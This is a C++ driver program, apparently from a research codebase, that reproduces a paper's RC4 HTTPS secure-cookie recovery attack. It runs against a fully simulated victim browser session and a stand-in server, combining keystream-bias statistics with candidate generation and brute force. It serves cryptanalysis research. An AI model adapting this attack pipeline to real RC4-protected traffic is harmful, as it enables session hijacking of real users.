// https_cookie: end-to-end HTTPS secure-cookie attack demo (Sect. 6) on a
// fully simulated victim + server.
//
//   * The victim's browser (simulated) holds a secret 16-character cookie
//     and is induced to send many aligned HTTPS requests over one keep-alive
//     RC4 TLS connection; attacker-controlled cookies surround the target
//     with known plaintext (Listing 3 layout).
//   * The attacker observes TLS records only, accumulates Fluhrer-McGrew
//     pair counts and multi-gap ABSAB differential scores, builds combined
//     double-byte likelihoods, and streams cookie candidates lazily from
//     Algorithm 2 restricted to the cookie alphabet.
//   * Each candidate is tried against the (simulated) server as it is
//     drawn, up to the paper's 2^23 attempts.
//
// Real captures at default scale carry far too little signal (the paper
// needs 9 * 2^27 requests), so the default accelerates the *ciphertext*
// side by sampling the captured statistics from their exact distribution at
// a paper-scale request count — the attacker-side pipeline (likelihoods,
// Algorithm 2, brute force) runs unchanged. Use --real-capture=true to run
// honest end-to-end TLS capture at whatever --requests you can afford.
#include <cstdio>

#include "src/common/flags.h"
#include "src/common/rng.h"
#include "src/recovery/engine.h"
#include "src/sim/cookie_sim.h"
#include "src/tls/cookie_attack.h"
#include "src/tls/session.h"

using namespace rc4b;

int main(int argc, char** argv) {
  FlagSet flags("End-to-end HTTPS secure-cookie recovery (Sect. 6)");
  flags.Define("requests", "0x58000000", "cookie encryptions (11 * 2^27)")
      .Define("real-capture", "false",
              "true: honest TLS capture at --requests (slow); false: sample "
              "the captured statistics at paper scale (fast)")
      .Define("alignment", "48", "cookie keystream position mod 256")
      .Define("attempts", "0x800000", "brute-force budget (paper: 2^23)")
      .Define("max-gap", "128", "largest ABSAB gap")
      .Define("seed", "99", "simulation seed");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  Xoshiro256 rng(flags.GetUint("seed"));
  const auto alphabet = CookieAlphabet64();

  // --- The victim: a secret cookie in an aligned request ------------------
  Bytes secret_cookie(16);
  for (auto& b : secret_cookie) {
    b = alphabet[rng.Below(alphabet.size())];
  }
  HttpRequestTemplate tmpl;
  tmpl.total_size = 492;  // 512-byte encrypted records on the wire
  TlsVictimSession session(tmpl, secret_cookie, flags.GetUint("alignment"), rng);
  std::printf("victim session up: cookie at request offset %zu, keystream "
              "alignment %zu (mod 256)\n",
              session.CookieOffsetInRequest(),
              session.CookieStreamPosition(0) % 256);

  CookieAttackLayout layout;
  layout.cookie_offset = session.CookieOffsetInRequest();
  layout.request_size = tmpl.total_size;
  layout.max_gap = flags.GetUint("max-gap");

  const uint8_t m1 = session.RequestPlaintext()[layout.cookie_offset - 1];
  const uint8_t m_last =
      session.RequestPlaintext()[layout.cookie_offset + layout.cookie_length];
  const size_t align1 = session.CookieStreamPosition(0) % 256;  // 0-based offset

  const uint64_t requests = flags.GetUint("requests");
  DoubleByteTables transitions;

  if (flags.GetBool("real-capture")) {
    // --- Honest capture: JavaScript-driven request flood, observed on wire.
    std::printf("capturing %llu real TLS records...\n",
                static_cast<unsigned long long>(requests));
    CookieCaptureStats stats(layout, session.RequestPlaintext());
    for (uint64_t k = 0; k < requests; ++k) {
      const Bytes record = session.NextRequest();
      if (!stats.AddRequest(
              std::span<const uint8_t>(record).subspan(kTlsRecordHeaderSize))) {
        std::printf("capture error: record %llu shorter than the request\n",
                    static_cast<unsigned long long>(k));
        return 1;
      }
    }
    // FM + multi-gap ABSAB combination over the captured statistics: the
    // same table shape the sampled path below produces.
    transitions = CookieTransitionTables(stats, align1);
  } else {
    // --- Paper-scale statistics via the shared Fig. 10 simulation pipeline
    // (src/sim/cookie_sim.h): exact Poissonized FM counts plus multi-gap
    // ABSAB scores for the true cookie's 17 adjacent pairs.
    std::printf("sampling captured statistics for %llu requests (paper's 94%% "
                "operating point is 9*2^27 with 2^23 attempts)...\n",
                static_cast<unsigned long long>(requests));
    sim::CookieSimOptions sim_options;
    sim_options.cookie_length = secret_cookie.size();
    sim_options.alignment = align1;
    sim_options.max_gap = layout.max_gap;
    sim_options.m1 = m1;
    sim_options.m_last = m_last;
    const sim::CookieSimContext context(sim_options);
    transitions =
        sim::SampleCookieTransitions(context, secret_cookie, requests, rng);
  }

  // --- Brute force against the server -------------------------------------
  std::printf("generating candidates with Algorithm 2 (%zu-char alphabet) and "
              "brute-forcing up to %llu of them...\n",
              alphabet.size(),
              static_cast<unsigned long long>(flags.GetUint("attempts")));
  // The "server": in the real attack this is ~20000 pipelined HTTPS requests
  // per second; here a constant-time comparison stands in for it.
  uint64_t server_hits = 0;
  const auto try_cookie = [&](const Bytes& candidate) {
    ++server_hits;
    return candidate == secret_cookie;
  };
  recovery::RecoveryOptions options;
  options.max_candidates = flags.GetUint("attempts");
  const recovery::RecoveryEngine engine(std::move(options));
  const auto result = engine.RecoverDouble(
      transitions, recovery::PairBoundary{m1, m_last}, alphabet, try_cookie);

  if (result.found) {
    std::printf("\ncookie RECOVERED after %llu attempts: %s\n",
                static_cast<unsigned long long>(result.candidates_tried),
                std::string(result.plaintext.begin(), result.plaintext.end())
                    .c_str());
    std::printf("(true cookie:                          %s)\n",
                std::string(secret_cookie.begin(), secret_cookie.end()).c_str());
    std::printf("at the paper's 20000 tests/second this is %.1f seconds of "
                "brute force.\n",
                static_cast<double>(result.candidates_tried) / 20000.0);
    return 0;
  }
  std::printf("\ncookie not in the first %llu candidates — increase "
              "--requests or --attempts (paper: 9*2^27 requests, 2^23 "
              "attempts, 94%% success).\n",
              static_cast<unsigned long long>(result.candidates_tried));
  return 1;
}
